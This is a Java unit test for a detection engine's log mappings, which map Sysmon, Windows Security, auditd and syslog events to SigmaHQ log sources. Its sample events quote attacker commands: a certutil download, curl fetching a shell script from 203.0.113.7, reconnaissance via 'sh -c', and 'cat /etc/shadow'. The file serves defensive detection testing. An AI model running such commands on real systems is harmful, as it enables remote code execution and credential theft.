package dev.keel.detect.mapping;

import static org.assertj.core.api.Assertions.assertThat;

import dev.keel.detect.rule.FieldRef;
import dev.keel.detect.rule.LogSource;
import dev.keel.storage.Event;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import tools.jackson.core.type.TypeReference;
import tools.jackson.databind.json.JsonMapper;

/**
 * The shipped mappings on events as the real shippers send them (the samples in
 * {@code mapping-samples/}, described line by line in its README): each gets the log source
 * SigmaHQ's rules are scoped to, and the fields they name.
 */
class ShippedMappingsTest {

    private static final FieldMappings SHIPPED = FieldMappings.load(FieldMappings.SHIPPED, Duration.ofMillis(100));
    private static final JsonMapper JSON = JsonMapper.builder().build();

    @Test
    void sysmonAsWinlogbeatAndNxlogSendItGetsSigmasCategoriesAndFieldNames() throws IOException {
        for (String shipper : List.of("winlogbeat", "nxlog")) {
            List<Event> events = mapped(json(shipper + "-sysmon.ndjson"));

            assertThat(events).extracting(ShippedMappingsTest::logsource).as(shipper).containsExactly(
                    "product=windows category=process_creation service=sysmon",
                    "product=windows category=process_creation service=sysmon",
                    "product=windows category=network_connection service=sysmon",
                    "product=windows category=file_event service=sysmon",
                    "product=windows category=registry_event,registry_set service=sysmon",
                    "product=windows category=dns_query service=sysmon");
            Event certutil = events.getFirst();
            assertThat(text(certutil, "Image")).as(shipper).isEqualTo("C:\\Windows\\System32\\certutil.exe");
            assertThat(text(certutil, "OriginalFileName")).isEqualTo("CertUtil.exe");
            assertThat(text(certutil, "CommandLine")).startsWith("certutil.exe -urlcache -split -f http://203.0.113.7/");
            assertThat(text(certutil, "ParentImage")).isEqualTo("C:\\Windows\\System32\\cmd.exe");
            assertThat(text(certutil, "EventID")).isEqualTo("1");
            assertThat(text(certutil, "Channel")).isEqualTo("Microsoft-Windows-Sysmon/Operational");
            assertThat(text(certutil, "Computer")).isEqualTo("WS01.corp.example");
            assertThat(text(certutil, "Provider_Name")).isEqualTo("Microsoft-Windows-Sysmon");
            assertThat(text(events.get(2), "DestinationIp")).isEqualTo("203.0.113.7");
            assertThat(text(events.get(4), "TargetObject")).endsWith("\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater");
            assertThat(text(events.get(5), "QueryName")).isEqualTo("dl.update-service.example");
        }
    }

    @Test
    void securityEventsGetTheServiceAndA4688BecomesAProcessCreation() throws IOException {
        for (String shipper : List.of("winlogbeat", "nxlog")) {
            List<Event> events = mapped(json(shipper + "-security.ndjson"));

            assertThat(events).extracting(ShippedMappingsTest::logsource).as(shipper).containsExactly(
                    "product=windows service=security", "product=windows service=security",
                    "product=windows category=process_creation service=security", "product=windows service=security");
            assertThat(events).extracting(event -> text(event, "EventID")).containsExactly("4625", "4624", "4688",
                    "4720");
            assertThat(text(events.getFirst(), "TargetUserName")).isEqualTo("alice");
            assertThat(text(events.getFirst(), "IpAddress")).isEqualTo("198.51.100.23");
            Event created = events.get(2);
            assertThat(text(created, "Image")).as("from NewProcessName").isEqualTo("C:\\Windows\\System32\\certutil.exe");
            assertThat(text(created, "ParentImage")).isEqualTo("C:\\Windows\\System32\\cmd.exe");
            assertThat(text(created, "NewProcessName")).as("the event keeps its own names too")
                    .isEqualTo("C:\\Windows\\System32\\certutil.exe");
        }
    }

    @Test
    void auditRecordsForwardedAsSyslogMessagesAreReadIntoTheirFields() throws IOException {
        List<Event> events = mapped(lines("auditd.log").stream()
                .map(line -> syslog("audisp-syslog", line)).toList());

        assertThat(events).extracting(ShippedMappingsTest::logsource).containsOnly("product=linux service=auditd");
        Event curl = events.stream().filter(e -> "EXECVE".equals(text(e, "type")) && "curl".equals(text(e, "a0")))
                .findFirst().orElseThrow();
        assertThat(text(curl, "a3")).isEqualTo("http://203.0.113.7/x.sh");
        Event shell = events.stream().filter(e -> "EXECVE".equals(text(e, "type")) && "sh".equals(text(e, "a0")))
                .findFirst().orElseThrow();
        assertThat(text(shell, "a2")).as("hex-encoded because it holds a space").isEqualTo("id; uname -a");
        assertThat(events).filteredOn(e -> "PROCTITLE".equals(text(e, "type"))).extracting(e -> text(e, "proctitle"))
                .containsExactly("curl -o /tmp/.x http://203.0.113.7/x.sh", "sh -c id; uname -a");
        assertThat(events).filteredOn(e -> "SYSCALL".equals(text(e, "type"))).extracting(e -> text(e, "key"))
                .containsExactly("susp_activity", "shell_exec");
        Event sudo = events.getLast();
        assertThat(text(sudo, "type")).isEqualTo("USER_CMD");
        assertThat(text(sudo, "cmd")).isEqualTo("cat /etc/shadow");
        assertThat(text(sudo, "node")).isEqualTo("ws02");
    }

    @Test
    void plainSyslogGetsTheServiceOfItsProgramAndOtherProgramsNone() {
        assertThat(logsource(mapped(syslog("sshd", "Failed password for invalid user admin")))).isEqualTo(
                "product=linux service=sshd");
        assertThat(logsource(mapped(syslog("sudo", "alice : COMMAND=/usr/bin/cat /etc/shadow")))).isEqualTo(
                "product=linux service=sudo");
        assertThat(logsource(mapped(syslog("CROND", "(root) CMD (/usr/local/bin/backup.sh)")))).isEqualTo(
                "product=linux service=cron");
        assertThat(logsource(mapped(syslog("kernel", "filter_IN_public_REJECT: IN=eth0")))).isEqualTo(
                "product=linux service=syslog");
        assertThat(logsource(mapped(syslog("fortigate", "type=traffic subtype=forward")))).as("not an audit record")
                .isEqualTo("any");
    }

    @Test
    void aLogSourceTheInputStampedIsKeptAndOnlyCompleted() {
        Event stamped = syslog("sshd", "Accepted publickey for alice");
        Map<String, Object> attributes = new LinkedHashMap<>(stamped.attributes());
        attributes.put("logsource", Map.of("product", "linux", "service", "auth"));

        Event mapped = mapped(new Event(stamped.eventId(), 0, 0, "syslog", "ws02", null, null, null, null,
                stamped.message(), attributes));

        assertThat(logsource(mapped)).isEqualTo("product=linux service=auth");
    }

    private static List<Event> mapped(List<Event> events) {
        return events.stream().map(ShippedMappingsTest::mapped).toList();
    }

    private static Event mapped(Event event) {
        Event mapped = event;
        for (MappingStep step : SHIPPED.steps()) {
            mapped = step.apply(mapped);
        }
        return mapped;
    }

    private static String logsource(Event event) {
        return LogSource.of(event).display();
    }

    private static String text(Event event, String field) {
        return FieldRef.of(field).text(event);
    }

    private static Event syslog(String app, String message) {
        Map<String, Object> attributes = new LinkedHashMap<>();
        attributes.put("facility", "user");
        attributes.put("app_name", app);
        return new Event("s-" + message.hashCode(), 0, 0, "syslog", "ws02", null, null, null, "info", message,
                attributes);
    }

    /** As HTTP ingest normalizes them: message, host (an ECS object's name) and @timestamp are common fields. */
    private static List<Event> json(String sample) throws IOException {
        List<Event> events = new ArrayList<>();
        for (String line : lines(sample)) {
            Map<String, Object> fields = JSON.readValue(line, new TypeReference<LinkedHashMap<String, Object>>() {});
            Object stamp = fields.remove("@timestamp");
            long timestamp = stamp == null ? 0 : Instant.parse((String) stamp).toEpochMilli();
            Object message = fields.remove("message");
            String host = fields.get("host") instanceof Map<?, ?> ecs ? (String) ecs.get("name") : null;
            events.add(new Event("j-" + events.size(), timestamp, timestamp, "http", host, null, null, null, null,
                    (String) message, fields));
        }
        return events;
    }

    private static List<String> lines(String sample) throws IOException {
        try (InputStream in = ShippedMappingsTest.class.getResourceAsStream("/mapping-samples/" + sample)) {
            return new String(in.readAllBytes(), StandardCharsets.UTF_8).lines().filter(l -> !l.isBlank()).toList();
        }
    }
}
